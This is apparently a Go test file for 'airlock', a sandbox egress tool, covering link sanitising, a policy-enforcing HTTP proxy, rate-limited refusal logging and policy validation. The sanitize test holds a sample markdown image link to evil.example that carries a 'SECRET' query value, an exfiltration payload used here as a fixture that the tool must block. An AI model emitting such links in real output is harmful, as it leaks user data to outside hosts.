package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/airlock-sandbox/airlock"
	"github.com/airlock-sandbox/airlock/egress"
	"github.com/airlock-sandbox/airlock/internal/testing/syncbuf"
)

func TestSanitizeCommand(t *testing.T) {
	in := "ok ![a](https://docs.example.com/a.png) bad ![b](https://evil.example/?q=SECRET)\n"
	var out, errb bytes.Buffer
	code := Run(context.Background(), []string{"sanitize", "--allow", "docs.example.com", "--report"}, strings.NewReader(in), &out, &errb)
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, errb.String())
	}
	want := "ok ![a](https://docs.example.com/a.png) bad ![b](about:blank#blocked)\n"
	if out.String() != want {
		t.Errorf("got %q, want %q", out.String(), want)
	}
	if !strings.Contains(errb.String(), `"host":"evil.example"`) || strings.Contains(errb.String(), "SECRET") {
		t.Errorf("report: %s", errb.String())
	}
	out.Reset()
	code = Run(context.Background(), []string{"sanitize", "--html"}, strings.NewReader(`<p><img src="https://evil.example/x"></p>`), &out, &errb)
	if code != exitOK || out.String() != "<p><img></p>" {
		t.Errorf("--html: %d %q", code, out.String())
	}
	if code := Run(context.Background(), []string{"sanitize", "--allow", "127.0.0.1"}, strings.NewReader(""), &out, &errb); code != exitUsage {
		t.Errorf("IP literal allowlist: exit %d, want %d", code, exitUsage)
	}
}

// TestProxyCommand runs `airlock proxy` with a policy and a hosts file and
// sends requests through it to a loopback origin.
func TestProxyCommand(t *testing.T) {
	port, dir, policy, hosts := proxyOrigin(t)
	ca := filepath.Join(dir, "ca.pem")

	addr, stderr, stop := startProxy(t, "--policy", policy, "--hosts", hosts, "--dns", "127.0.0.1:0", "--ca-out", ca)
	client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: addr})}}
	for method, want := range map[string]int{"GET": 200, "PUT": 403} {
		req, _ := http.NewRequest(method, "http://origin.test:"+port+"/", nil)
		resp, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != want {
			t.Errorf("%s: %d, want %d", method, resp.StatusCode, want)
		}
	}
	if pem, err := os.ReadFile(ca); err != nil || !bytes.Contains(pem, []byte("BEGIN CERTIFICATE")) {
		t.Errorf("--ca-out: %v", err)
	}
	if code := stop(); code != exitOK {
		t.Errorf("exit %d", code)
	}
	if !strings.Contains(stderr.String(), `"verdict":"deny"`) || !strings.Contains(stderr.String(), `"method":"PUT"`) {
		t.Errorf("decisions not logged: %s", stderr.String())
	}
}

// proxyOrigin starts a loopback origin for the test and writes, in a
// directory of the test's, a policy granting origin.test on its port (GET
// and HEAD) and a hosts file pinning that name to it.
func proxyOrigin(t *testing.T) (port, dir, policy, hosts string) {
	t.Helper()
	origin := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "hello") }))
	t.Cleanup(origin.Close)
	port = origin.URL[strings.LastIndexByte(origin.URL, ':')+1:]
	dir = t.TempDir()
	policy, hosts = filepath.Join(dir, "policy.yaml"), filepath.Join(dir, "hosts")
	if err := os.WriteFile(policy, []byte("- host: origin.test\n  ports: ["+port+"]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(hosts, []byte("127.0.0.1 origin.test\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return port, dir, policy, hosts
}

// startProxy runs `airlock proxy` with args (and --listen on loopback)
// until the test ends, and returns its proxy address, its stderr, and a
// stop that ends it and returns its exit code.
func startProxy(t *testing.T, args ...string) (addr string, stderr *syncbuf.Buffer, stop func() int) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	stderr = &syncbuf.Buffer{}
	done := make(chan int, 1)
	go func() {
		done <- Run(ctx, append([]string{"proxy", "--listen", "127.0.0.1:0"}, args...), strings.NewReader(""), io.Discard, stderr)
	}()
	stop = sync.OnceValue(func() int { cancel(); return <-done })
	t.Cleanup(func() { stop() })
	re := regexp.MustCompile(`HTTP proxy on (\S+)`)
	for i := 0; i < 500 && addr == ""; i++ {
		if m := re.FindStringSubmatch(stderr.String()); m != nil {
			addr = m[1]
		}
		time.Sleep(10 * time.Millisecond)
	}
	if addr == "" {
		t.Fatalf("proxy did not start: %s", stderr.String())
	}
	return addr, stderr, stop
}

// TestProxyRefusalsBounded: a client refused in a loop does not write
// the proxy's log as fast as it can make requests: past the budget,
// refusals are counted in one record; allowed requests are all logged.
func TestProxyRefusalsBounded(t *testing.T) {
	defer func(n int) { proxyRefusalsPerMinute = n }(proxyRefusalsPerMinute)
	proxyRefusalsPerMinute = 5
	port, dir, policy, hosts := proxyOrigin(t)
	logFile := filepath.Join(dir, "decisions.jsonl")
	addr, stderr, stop := startProxy(t, "--policy", policy, "--hosts", hosts, "--log", logFile)
	client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: addr})}}
	for i := range 15 {
		method := "PUT"
		if i%5 == 4 {
			method = "GET"
		}
		req, _ := http.NewRequest(method, "http://origin.test:"+port+"/", nil)
		resp, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
	}
	if code := stop(); code != exitOK {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	data, err := os.ReadFile(logFile)
	if err != nil {
		t.Fatal(err)
	}
	var puts, gets, summaries int
	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		var r egress.Record
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		switch {
		case r.Method == "PUT" && r.Verdict == egress.Deny:
			puts++
		case r.Method == "GET" && r.Verdict == egress.Allow:
			gets++
		case strings.Contains(r.Reason, "7 more refusals not logged (at most 5 a minute are)"):
			summaries++
		default:
			t.Errorf("unexpected record %s", line)
		}
	}
	if puts != 5 || gets != 3 || summaries != 1 {
		t.Errorf("%d refusals, %d allowed, %d summaries logged; want 5, 3, 1:\n%s", puts, gets, summaries, data)
	}
}

// TestRefusalBudgetMinutes: the budget is a minute's; a later minute
// logs the count of the earlier one's quiet refusals first.
func TestRefusalBudgetMinutes(t *testing.T) {
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	var got []string
	b := &refusalBudget{sink: func(r egress.Record) { got = append(got, string(r.Verdict)+" "+r.Reason) }, max: 2, now: func() time.Time { return now }}
	for range 4 {
		b.log(egress.Record{Verdict: egress.Deny, Reason: "r"})
	}
	now = now.Add(time.Minute)
	b.log(egress.Record{Verdict: egress.Deny, Reason: "later"})
	b.flush()
	want := []string{"deny r", "deny r", "deny 2 more refusals not logged (at most 2 a minute are)", "deny later"}
	if !slices.Equal(got, want) {
		t.Errorf("logged %q, want %q", got, want)
	}
}

func TestProxyCommandBadPolicy(t *testing.T) {
	dir := t.TempDir()
	for name, body := range map[string]string{
		"ip.json":      `[{"host":"127.0.0.1"}]`,
		"unknown.json": `[{"host":"a.test","verbs":["GET"]}]`,
		"unknown.yaml": "- host: a.test\n  verbs: [GET]\n",
		"empty.yaml":   "",
	} {
		p := filepath.Join(dir, name)
		os.WriteFile(p, []byte(body), 0o644)
		var errb bytes.Buffer
		if code := Run(context.Background(), []string{"proxy", "--policy", p, "--listen", "127.0.0.1:0"}, strings.NewReader(""), io.Discard, &errb); code != exitUsage {
			t.Errorf("%s: exit %d, want %d (%s)", name, code, exitUsage, errb.String())
		}
	}
	// A file that is not there, and an argument the command does not take,
	// are bad input too: one line, exit 2, nothing started.
	good := filepath.Join(dir, "good.yaml")
	os.WriteFile(good, []byte("- host: a.test\n"), 0o644)
	for _, args := range [][]string{
		{"--policy", filepath.Join(dir, "missing.yaml")},
		{"--policy", good, "--hosts", filepath.Join(dir, "missing.txt")},
		{"--policy", good, "extra"},
	} {
		var errb bytes.Buffer
		// Bounded: a proxy that started anyway serves until its context ends.
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		code := Run(ctx, append([]string{"proxy", "--listen", "127.0.0.1:0"}, args...), strings.NewReader(""), io.Discard, &errb)
		cancel()
		if code != exitUsage || strings.Count(errb.String(), "\n") != 1 {
			t.Errorf("%v: exit %d, want %d (%q)", args, code, exitUsage, errb.String())
		}
	}
}

// TestEgressForwardCommand runs `airlock egress-forward SOCKET` the way
// QEMU's guestfwd cmd: does: one proxy connection on stdin/stdout.
func TestEgressForwardCommand(t *testing.T) {
	origin := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "hello") }))
	defer origin.Close()
	port := origin.URL[strings.LastIndexByte(origin.URL, ':')+1:]
	pins := egress.Hosts{}
	if err := pins.Add("origin.test", netip.MustParseAddr("127.0.0.1")); err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(t.TempDir(), "egress.sock")
	p, _ := strconv.Atoi(port)
	gw, err := egress.Start(context.Background(), egress.Config{Socket: sock, Hosts: pins, Rules: []airlock.NetRule{{Host: "origin.test", Ports: []int{p}}}})
	if err != nil {
		t.Fatal(err)
	}
	defer gw.Close()
	for method, want := range map[string]string{"GET": "HTTP/1.1 200", "PUT": "HTTP/1.1 403"} {
		in := method + " http://origin.test:" + port + "/ HTTP/1.1\r\nHost: origin.test:" + port + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
		var out, errb bytes.Buffer
		if code := Run(context.Background(), []string{"egress-forward", sock}, strings.NewReader(in), &out, &errb); code != exitOK {
			t.Fatalf("%s: exit %d: %s", method, code, errb.String())
		}
		if !strings.HasPrefix(out.String(), want) {
			t.Errorf("%s: got %q, want %s", method, out.String(), want)
		}
	}
	var errb bytes.Buffer
	if code := Run(context.Background(), []string{"egress-forward", "--dns", "--serve", sock}, strings.NewReader(""), io.Discard, &errb); code != exitUsage {
		t.Errorf("--dns --serve: exit %d, want %d", code, exitUsage)
	}
}
